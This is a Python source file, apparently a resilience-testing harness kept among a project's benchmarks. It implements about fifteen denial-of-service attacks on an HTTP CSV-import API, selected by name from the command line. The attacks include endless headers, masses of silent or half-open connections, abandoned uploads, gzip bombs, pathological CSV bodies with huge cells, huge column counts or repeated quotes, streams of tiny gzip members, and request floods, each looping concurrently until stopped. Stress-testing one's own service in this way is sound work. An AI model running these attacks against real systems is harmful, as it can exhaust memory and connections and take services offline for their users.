"""The attacks, each until it is killed: `python -m benchmarks.hostile.attacks --attack "silent connections"`.

Those that were seen to work once, and a few of their kind.
"""

import argparse
import asyncio
import gzip
import json
import random
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

MB = 1_000_000
PIECE = 64_000
LATER = "/v1/imports?not_before=2099-01-01T00:00:00Z"
ROW_BYTES = 200


@dataclass(frozen=True, slots=True)
class Target:
    host: str
    port: int
    key: str

    def head(self, path: str, *lines: str, length: int | None = None, method: str = "POST") -> bytes:
        size = "Transfer-Encoding: chunked" if length is None else f"Content-Length: {length}"
        said = [f"{method} {path} HTTP/1.1", "Host: localhost", *([size] if method == "POST" else []), *lines]
        return ("\r\n".join(said) + "\r\n\r\n").encode()

    def mine(self, path: str, *lines: str, length: int | None = None, method: str = "POST") -> bytes:
        """With the key."""
        kind = [] if any(one.startswith("Content-Type") for one in lines) else ["Content-Type: text/csv"]
        return self.head(path, f"Authorization: Bearer {self.key}", *kind, *lines, length=length, method=method)


Attack = Callable[[Target], Coroutine[Any, Any, None]]


async def said(to: Target, *pieces: bytes, listen: bool = True) -> None:
    """One connection on which these are said; then what comes is read until its end, or for ever."""
    reader, writer = await asyncio.open_connection(to.host, to.port)
    try:
        for piece in pieces:
            writer.write(piece)
            await writer.drain()
        while listen and await reader.read(PIECE):
            pass
        if not listen:
            await asyncio.Event().wait()
    finally:
        writer.close()


async def again_and_again(many: int, one: Callable[[], Coroutine[Any, Any, None]], pause_seconds: float = 0.1) -> None:
    """So many at once, each begun anew when it has ended, however it ended."""

    async def repeat() -> None:
        while True:
            with suppress(OSError):
                await one()
            await asyncio.sleep(pause_seconds)

    await asyncio.gather(*[repeat() for _ in range(many)])


def rows(size_bytes: int) -> bytes:
    """Of many people, hard to pack."""
    dice = random.Random(0)
    made = [b"p%d@example.com,%s\n" % (n, dice.randbytes(80).hex().encode()) for n in range(size_bytes // ROW_BYTES)]
    return b"email,company\n" + b"".join(made)


# without a key


async def endless_header(to: Target) -> None:
    await again_and_again(4, lambda: said(to, b"GET / HTTP/1.1\r\nHost: a\r\nX: ", *[b"a" * PIECE] * 1000))


async def endless_accept(to: Target) -> None:
    head = b"GET /v1/imports/1 HTTP/1.1\r\nHost: a\r\nAccept: " + b"a/b;q=0.1," * 800 + b"\r\n\r\n"
    large = b"GET /v1/imports/1 HTTP/1.1\r\nHost: a\r\nAccept: " + b"a/b;q=0.1," * 800_000 + b"\r\n\r\n"
    await asyncio.gather(
        again_and_again(4, lambda: said(to, head + head * 10), 0.02), again_and_again(4, lambda: said(to, large))
    )


async def silent_connections(to: Target) -> None:
    await again_and_again(400, lambda: said(to))


async def strangers_forms(to: Target) -> None:
    form = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n' + rows(9 * MB)
    head = to.head("/bulk/v1/leads.json?format=csv", "Content-Type: multipart/form-data; boundary=b", length=20 * MB)
    await again_and_again(40, lambda: said(to, head, form), 0.5)


async def wrong_keys(to: Target) -> None:
    head = to.head("/v1/imports?page_size=1", "Authorization: Bearer slc_0a_0b", method="GET")
    await again_and_again(32, lambda: said(to, head * 16 + b"GET / HTTP/0.9\r\n\r\n"), 0.05)


# with one


async def half_open(to: Target) -> None:
    content = rows(9 * MB)
    await again_and_again(10, lambda: said(to, to.mine(LATER, length=20 * MB), content, listen=False), 1)


async def abandoned(to: Target) -> None:
    content = rows(9 * MB)

    async def one() -> None:
        with suppress(TimeoutError):
            async with asyncio.timeout(0.5):
                await said(to, to.mine(LATER, length=20 * MB), content)

    await again_and_again(20, one)


async def bombs(to: Target) -> None:
    packed = gzip.compress(rows(1 * MB)[:-1] + b"\n" + b"somebody@example.com,Acme\n" * 8_000_000, 1)
    head = to.mine(LATER, "Content-Encoding: gzip", length=len(packed))
    await again_and_again(8, lambda: said(to, head, packed), 1)


async def long_cells(to: Target) -> None:
    content = b"email,leadScore\n" + b"".join(b"p%d@example.com,%s\n" % (n, b"1" * 40_000) for n in range(200))
    await again_and_again(8, lambda: said(to, to.mine(f"{LATER}&preflight=rows", length=len(content)), content))


async def many_columns(to: Target) -> None:
    content = b"email," + b",".join(b"c%d" % n for n in range(400_000)) + b"\na@example.com\n"
    await again_and_again(8, lambda: said(to, to.mine(LATER, length=len(content)), content))


async def quotes_in_cells(to: Target) -> None:
    content = b"email,company\n" + b'a"b,' * (9 * MB // 4) + b"\n"
    await again_and_again(4, lambda: said(to, to.mine(LATER, length=len(content)), content))


async def tiny_members(to: Target) -> None:
    packed = gzip.compress(b"") * 50_000
    head = to.mine(LATER, "Content-Encoding: gzip", length=len(packed))
    await again_and_again(8, lambda: said(to, head, packed))


async def strange_names(to: Target) -> None:
    query = "&".join(f"priorit{n}=1" for n in range(2_000))
    await again_and_again(
        16, lambda: said(to, to.mine(f"/v1/imports?{query}", "Connection: close", method="GET")), 0.02
    )


async def streams(to: Target) -> None:
    content = rows(1_000)
    await _told(to, to.mine(f"{LATER}&preflight=off", "Connection: close", length=len(content)) + content)
    number = await _newest(to)
    head = to.mine(f"/v1/imports/{number}/events", "Accept: text/event-stream", method="GET")
    await again_and_again(1_500, lambda: said(to, head), 5)


async def floods(to: Target) -> None:
    head = to.mine("/v1/imports?page_size=200", method="GET")
    last = to.mine("/v1/imports?page_size=200", "Connection: close", method="GET")
    await again_and_again(32, lambda: said(to, head * 8 + last), 0.02)


async def _newest(to: Target) -> int:
    told = await _told(to, to.mine("/v1/imports?page_size=1", "Connection: close", method="GET"))
    return int(json.loads(told.split(b"\r\n\r\n", 1)[1])["items"][0]["id"])


async def _told(to: Target, request: bytes) -> bytes:
    return b"".join([piece async for piece in _pieces(to, request)])


async def _pieces(to: Target, request: bytes) -> AsyncIterator[bytes]:
    reader, writer = await asyncio.open_connection(to.host, to.port)
    writer.write(request)
    while piece := await reader.read(PIECE):
        yield piece
    writer.close()


WITHOUT_A_KEY: dict[str, Attack] = {
    "a header without end": endless_header,
    "a large Accept": endless_accept,
    "silent connections": silent_connections,
    "forms of strangers": strangers_forms,
    "wrong keys": wrong_keys,
}
WITH_A_KEY: dict[str, Attack] = {
    "half-open uploads": half_open,
    "abandoned uploads": abandoned,
    "bodies that unpack to 200 MB": bombs,
    "cells of 40,000 digits": long_cells,
    "400,000 columns": many_columns,
    "quotes inside cells": quotes_in_cells,
    "very many gzip members": tiny_members,
    "2,000 strange names": strange_names,
    "1,500 streams": streams,
    "a flood of lists": floods,
}


def main() -> None:
    asked = argparse.ArgumentParser(description=__doc__)
    asked.add_argument("--url", required=True)
    asked.add_argument("--key", required=True)
    asked.add_argument("--attack", required=True, choices=[*WITHOUT_A_KEY, *WITH_A_KEY])
    given = asked.parse_args()
    address = urlsplit(given.url)
    assert address.hostname
    assert address.port
    target = Target(address.hostname, address.port, given.key)
    asyncio.run((WITHOUT_A_KEY | WITH_A_KEY)[given.attack](target))


if __name__ == "__main__":
    main()
